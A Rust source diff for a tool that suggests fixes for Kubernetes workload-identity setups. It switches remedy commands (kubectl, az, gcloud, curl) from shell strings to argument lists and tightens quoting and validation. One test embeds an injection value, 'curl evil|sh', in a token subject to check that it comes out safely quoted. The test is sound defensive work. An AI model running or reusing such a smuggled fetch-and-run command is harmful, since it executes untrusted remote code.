@@ -9,9 +9,96 @@ use crate::claims::Claims;
 /// Pods keep what they were created with.
 pub(super) fn restart(observation: &Observation<'_>) -> Remedy {
     let (namespace, _) = observation.account_words();
-    Remedy::shell(format!(
-        "kubectl --namespace {namespace} rollout restart deployment DEPLOYMENT"
-    ))
+    Remedy::command(&[
+        "kubectl",
+        "--namespace",
+        &namespace,
+        "rollout",
+        "restart",
+        "deployment",
+        "DEPLOYMENT",
+    ])
+}
+
+/// Variables are a matter of the pod's template: what a shell in the pod unsets is set in the next one.
+pub(super) fn unset(observation: &Observation<'_>, variables: &[&str]) -> [Remedy; 2] {
+    let (namespace, _) = observation.account_words();
+    let removed: Vec<String> = variables.iter().map(|name| format!("{name}-")).collect();
+    let mut words = vec!["kubectl", "--namespace", &namespace, "set", "env"];
+    words.extend(["deployment", "DEPLOYMENT"]);
+    words.extend(removed.iter().map(String::as_str));
+    [
+        // A list is given as a whole: the others have to be kept.
+        Remedy::helm(format!(
+            "# Keep the others, and leave out {}.\nextraEnv: []\n",
+            variables.join(", ")
+        )),
+        Remedy::command(&words),
+    ]
+}
+
+/// Shows where the token's volume is mounted.
+pub(super) fn mounts(observation: &Observation<'_>) -> Remedy {
+    let (namespace, _) = observation.account_words();
+    Remedy::command(&[
+        "kubectl",
+        "--namespace",
+        &namespace,
+        "get",
+        "pod",
+        &observation.pod_name(),
+        "--output",
+        "jsonpath={.spec.containers[*].volumeMounts}",
+    ])
+}
+
+/// Sets the clock of the node that the pod runs on.
+pub(super) fn set_clock() -> Remedy {
+    Remedy::command(&[
+        "kubectl",
+        "debug",
+        "node/NODE",
+        "--stdin",
+        "--tty",
+        "--profile=sysadmin",
+        "--image=busybox",
+        "--",
+        "chroot",
+        "/host",
+        "chronyc",
+        "makestep",
+    ])
+}
+
+/// A command that annotates the pod's ServiceAccount.
+pub(super) fn annotate(observation: &Observation<'_>, annotation: &str) -> Remedy {
+    let (namespace, account) = observation.account_words();
+    Remedy::command(&[
+        "kubectl",
+        "--namespace",
+        &namespace,
+        "annotate",
+        "serviceaccount",
+        &account,
+        annotation,
+    ])
+}
+
+/// A value in YAML: plain where it is certainly read as the same text.
+pub(super) fn yaml(text: &str) -> String {
+    const WORDS: [&str; 9] = ["true", "false", "yes", "no", "on", "off", "null", "y", "n"];
+    let plain = text.starts_with(|c: char| c.is_ascii_alphabetic())
+        && !text.ends_with(':')
+        && text
+            .bytes()
+            .all(|byte| byte.is_ascii_alphanumeric() || b"_-./:@=+,".contains(&byte))
+        && !WORDS.iter().any(|word| text.eq_ignore_ascii_case(word));
+    if plain {
+        text.to_owned()
+    } else {
+        // Every text of JSON is one of YAML.
+        serde_json::Value::from(text).to_string()
+    }
 }
 
 /// What a role's ARN is made of.
@@ -34,11 +121,13 @@ pub(super) fn role(arn: &str) -> Option<Role<'_>> {
             .all(|byte| byte.is_ascii_lowercase() || byte.is_ascii_digit() || byte == b'-');
     let good_account = account.len() == 12 && account.bytes().all(|byte| byte.is_ascii_digit());
     let last = name.rsplit('/').next()?;
+    // A path may have every character that can be seen.
     let good_name = (1..=64).contains(&last.len())
         && name.len() <= 576
-        && name
+        && name.bytes().all(|byte| byte.is_ascii_graphic())
+        && last
             .bytes()
-            .all(|byte| byte.is_ascii_alphanumeric() || b"_+=,.@-/".contains(&byte));
+            .all(|byte| byte.is_ascii_alphanumeric() || b"_+=,.@-".contains(&byte));
     let good = arn == "arn"
         && service == "iam"
         && region.is_empty()
@@ -99,27 +188,58 @@ pub(super) fn issuer_path(issuer: &str) -> &str {
 }
 
 /// The command that federates an identity of Azure with this token.
-pub(super) fn federated_credential(claims: &Claims) -> String {
-    format!(
-        "az identity federated-credential create --name pyproc --identity-name IDENTITY --resource-group GROUP \
-         --issuer {} --subject {} --audiences api://AzureADTokenExchange",
-        quoted(&claims.issuer),
-        quoted(&claims.subject)
-    )
+pub(super) fn federated_credential(claims: &Claims) -> Remedy {
+    let audience = claims.audiences.first();
+    Remedy::command(&[
+        "az",
+        "identity",
+        "federated-credential",
+        "create",
+        "--name",
+        "pyproc",
+        "--identity-name",
+        "IDENTITY",
+        "--resource-group",
+        "GROUP",
+        "--issuer",
+        &claims.issuer,
+        "--subject",
+        &claims.subject,
+        "--audiences",
+        audience.map_or("api://AzureADTokenExchange", String::as_str),
+    ])
 }
 
 /// The command that lets a member act as a Google service account.
-pub(super) fn workload_identity_user(service_account: &str, member: &str) -> String {
-    format!(
-        "gcloud iam service-accounts add-iam-policy-binding {} --role roles/iam.workloadIdentityUser --member {}",
-        quoted(service_account),
-        quoted(member)
-    )
+pub(super) fn workload_identity_user(service_account: &str, member: &str) -> Remedy {
+    Remedy::command(&[
+        "gcloud",
+        "iam",
+        "service-accounts",
+        "add-iam-policy-binding",
+        service_account,
+        "--role",
+        "roles/iam.workloadIdentityUser",
+        "--member",
+        member,
+    ])
+}
+
+/// Reads the issuer's discovery document, as clouds do before they verify a token.
+pub(super) fn discovery(issuer: &str) -> Remedy {
+    let issuer = issuer.trim_end_matches('/');
+    Remedy::command(&[
+        "curl",
+        "--fail",
+        &format!("{issuer}/.well-known/openid-configuration"),
+    ])
 }
 
 /// A word for a POSIX shell.
 pub(super) fn quoted(word: &str) -> String {
-    let plain = !word.is_empty()
+    // A word that begins with an equals sign or a tilde is one that some shells expand.
+    let plain = word.starts_with(|c: char| c.is_ascii_alphanumeric() || "-/.{".contains(c))
+        && !word.is_empty()
         && word
             .bytes()
             .all(|byte| byte.is_ascii_alphanumeric() || b"_-./:@=,+%".contains(&byte));
@@ -140,6 +260,7 @@ mod tests {
             "arn:aws:iam::123456789012:role/app",
             "arn:aws-cn:iam::123456789012:role/team/app",
             "arn:aws-iso-b:iam::123456789012:role/a+b=c,d.e@f-g",
+            "arn:aws:iam::123456789012:role/team:one/$x/app",
         ] {
             assert!(role(good).is_some(), "{good}");
         }
@@ -178,6 +299,38 @@ mod tests {
         assert_eq!(
             equals["oidc.eks.eu-west-1.amazonaws.com/id/AB:aud"],
             "sts.amazonaws.com"
+        );
+    }
+
+    #[test]
+    fn a_federated_credential_has_the_tokens_own_audience() {
+        let claims = Claims {
+            issuer: "https://issuer".into(),
+            subject: "system:serviceaccount:x;curl evil|sh:y".into(),
+            audiences: vec!["api://AzureADTokenExchangeUSGov".into()],
+            ..Claims::default()
+        };
+        let text = federated_credential(&claims).text;
+        assert!(
+            text.ends_with(" --audiences api://AzureADTokenExchangeUSGov"),
+            "{text}"
+        );
+        assert!(
+            text.contains(" --subject 'system:serviceaccount:x;curl evil|sh:y' "),
+            "{text}"
+        );
+    }
+
+    #[test]
+    fn values_survive_yaml() {
+        for text in ["arn:aws:iam::1:role/x", "a@b.c", "https://x/"] {
+            assert_eq!(yaml(text), text);
+        }
+        assert_eq!(yaml("11111111-2222"), "\"11111111-2222\"");
+        assert_eq!(yaml("a: b\nc"), "\"a: b\\nc\"");
+        assert_eq!(
+            (yaml("yes").as_str(), yaml("").as_str()),
+            ("\"yes\"", "\"\"")
         );
     }
 
